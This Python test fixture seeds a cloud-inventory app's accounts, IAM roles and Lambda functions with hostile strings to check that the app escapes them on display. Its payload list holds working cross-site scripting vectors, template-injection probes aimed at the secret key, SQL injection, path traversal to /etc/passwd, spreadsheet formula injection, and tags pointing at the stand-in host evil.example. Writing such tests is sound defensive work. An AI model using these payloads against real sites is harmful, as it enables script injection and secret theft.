"""A world whose every name, description, tag, variable, condition and log entry tries to become markup or script."""

from __future__ import annotations

from datetime import timedelta
from itertools import cycle
from typing import Any

from inventory.facts import ActivityFact, Binding, Coverage, Grant, Kind, Observation, ReadState, Statement, Unread
from inventory.history import canonical, digest
from inventory.models import Account, AccountGroup, Function, Posture
from inventory.record import conclude, open_scope, record_activity
from tests.cast import DAY_ONE

Json = Any

TAGS = ("script", "img", "svg", "iframe", "object", "embed", "video", "audio", "body", "input", "details", "math",
        "marquee", "style", "link", "meta", "base", "form", "button", "template")  # fmt: skip
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<ScRiPt>alert(3)</sCrIpT>",
    "<img src=x onerror=alert(4)>",
    '"><img src=x onerror=alert(5)>',
    "'><img src=x onerror=alert(6)>",
    "<svg onload=alert(7)>",
    "<svg><script>alert(8)</script></svg>",
    "<svg/onload=alert(9)//",
    '<a href="javascript:alert(10)">x</a>',
    "javascript:alert(11)",
    "JaVaScRiPt:alert(12)",
    "data:text/html,<script>alert(13)</script>",
    '<iframe srcdoc="<script>alert(14)</script>"></iframe>',
    '<div hx-get="/accounts/" hx-trigger="load">15</div>',
    '<div hx-on:load="alert(16)">16</div>',
    '<div data-hx-get="/" data-hx-trigger="load">17</div>',
    "\" hx-get=/ hx-trigger=load x=\"",
    "' onmouseover='alert(19)",
    '" autofocus onfocus="alert(20)',
    "{{7*7}}",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<style>*{display:none}</style>",
    '<p style="background:url(javascript:alert(28))">28</p>',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<base href="//evil.example/">',
    '<form action="//evil.example/"><button>32</button></form>',
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[<script>alert(36)</script>]]>",
    "</title><script>alert(37)</script>",
    "</textarea><script>alert(38)</script>",
    "</pre><script>alert(39)</script>",
    "</time><script>alert(40)</script>",
    "&lt;script&gt;alert(41)&lt;/script&gt;",
    "%3Cscript%3Ealert(42)%3C/script%3E",
    "\\u003cscript\\u003ealert(43)\\u003c/script\\u003e",
    "\u202egnp.exe",
    "zero\u200bwidth\u200djoiner",
    "\ufefffront",
    "line\nbreak\r\nand tab\t.",
    "=HYPERLINK(\"//evil.example\",\"49\")",
    "+1+cmd|' /C calc'!A0",
    "' OR 1=1 --",
    "../../../../etc/passwd",
    "<math><mtext></mtext><script>alert(53)</script></math>",
    "<details open ontoggle=alert(54)>",
    "<input autofocus onfocus=alert(55)>",
    "<body onload=alert(56)>",
    "<object data=javascript:alert(57)>",
    "<embed src=javascript:alert(58)>",
    "<template><script>alert(59)</script></template>",
    "<template shadowrootmode=open><script>alert(60)</script></template>",
    "`${alert(61)}`",
    "\x3cimg src=x onerror=alert(62)\x3e",
    "&#x3C;img src=x onerror=alert(63)&#x3E;",
    '{"__proto__":{"polluted":true}}',
    "a" * 300,
)  # fmt: skip

FUNCTIONS = 6


def build_hostile() -> list[Function]:
    """Functions whose every text is one of the payloads, over two readings; each payload stands somewhere."""
    turn = cycle(PAYLOADS)
    group = AccountGroup.objects.create(name=next(turn)[:100])
    account = Account.objects.create(provider="aws", native_id="666666666666", name=next(turn)[:255], group=group)
    texts = [[next(turn) for _ in range(14)] for _ in range(FUNCTIONS)]
    for day, at in enumerate((DAY_ONE, DAY_ONE + timedelta(days=1))):
        recorder = open_scope(account, "eu-west-1", at)
        recorder.store([_role(account, texts[0])])
        recorder.store([_function(number, some, day) for number, some in enumerate(texts)])
        record_activity(recorder.scope, [_event(n, some, at) for n, some in enumerate(texts)] if day else [], at)
        recorder.close(
            [
                Coverage("functions", ReadState.COMPLETE, listing=True),
                Coverage("roles", ReadState.DENIED, texts[1][0], "iam:ListRoles", listing=True),
            ]
        )
    functions = list(Function.objects.order_by("pk"))
    conclude(
        Posture(
            function=f,
            privilege="write",
            invoke="external",
            at=DAY_ONE,
            classes=[{"class": texts[n][0]}],
            because={"invoke": [texts[n][1]]},
        )
        for n, f in enumerate(functions)
    )
    return functions


def _role(account: Account, some: list[str]) -> Observation:
    body = {
        "Effect": "Allow",
        "Sid": some[0],
        "Action": [some[1]],
        "Resource": some[2],
        "Condition": {some[3]: some[4]},
    }
    told = canonical(body)
    grant = Grant("inline", some[5], some[6], Statement("allow", (some[1],), False, told, digest(told)))
    return Observation(
        Kind.IDENTITY,
        _role_id(some),
        some[7],
        "",
        "roles",
        {"config": {"kind": some[8][:40]}, "trust": body, "policies": {"policies": [body], "boundary": some[9]}},
        grants=(grant,),
    )


def _role_id(some: list[str]) -> str:
    return f"arn:aws:iam::666666666666:role/{some[10]}"


def _function(number: int, some: list[str], day: int) -> Observation:
    shifted = some[day:] + some[:day]
    sections: dict[str, Json] = {
        "config": {
            "description": shifted[0],
            "runtime": shifted[1][:60],
            "handler": shifted[2],
            "native": {shifted[3]: some[4]},
        },
        "environment": {
            "variables": [{"name": text, "fingerprint": text, "verdict": text, "reference": text} for text in shifted]
        },
        "identity": {"identities": [{"id": _role_id(some), "kind": "role"}]},
        "entry_points": {
            "entry_points": [{"kind": "url", "url": shifted[5], "auth": shifted[6], "method": some[7], "id": some[0]}]
        },
        "triggers": {"triggers": [{"kind": some[8], "source": shifted[9], "id": some[10]}]},
        "access": {
            "statements": [
                {
                    "Sid": shifted[1],
                    "Effect": "Allow",
                    "Principal": shifted[2],
                    "Action": some[3],
                    "Condition": {"x": shifted[4]},
                }
            ]
        },
        "network": {
            "attached": True,
            "network": shifted[11],
            "subnets": [{shifted[12]: some[13]}],
            "detail": {some[0]: shifted[1]},
        },
        "tags": dict(zip(some[:7], shifted[7:], strict=True)),
        "logging": {"group": shifted[3]},
    }
    binding = Binding(
        some[2],
        some[3][:40],
        (some[4], "lambda:InvokeFunction"),
        some[5][:60],
        some[6],
        condition={some[7]: shifted[8]},
        source=some[9],
    )
    return Observation(
        Kind.FUNCTION,
        f"arn:aws:lambda:eu-west-1:666666666666:function:{number}{some[0]}",
        some[number],
        "eu-west-1",
        "functions",
        sections,
        {"code": Unread(some[1], some[2], "denied")},
        bindings=(binding,),
        raw={"x": some},
    )


def _event(number: int, some: list[str], at: Any) -> ActivityFact:
    subject = f"arn:aws:lambda:eu-west-1:666666666666:function:{number}{some[0]}"
    return ActivityFact(
        f"e-{number}",
        at - timedelta(hours=2),
        some[1],
        subject,
        some[2],
        some[3][:20],
        some[4],
        some[5],
        some[6],
        some[7] if number % 2 else "ok",
    )
